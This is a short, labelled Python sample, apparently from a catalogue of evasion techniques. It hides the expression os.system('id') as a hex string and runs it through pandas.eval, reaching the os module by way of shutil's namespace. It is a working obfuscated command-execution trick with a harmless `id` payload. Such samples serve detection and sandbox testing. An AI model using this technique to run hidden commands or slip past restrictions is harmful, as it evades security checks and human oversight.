# class: second-stage | technique: pandas.eval of a hex-decoded expression, with a listed module's __dict__ passed as a resolver so the expression can name the os it imported | effect: runs `id`
import binascii
import shutil

import pandas as pd

EXPR = binascii.unhexlify("6f732e73797374656d282769642729").decode()
result = pd.eval(EXPR, engine="python", resolvers=[shutil.__dict__])
print("status:", result)
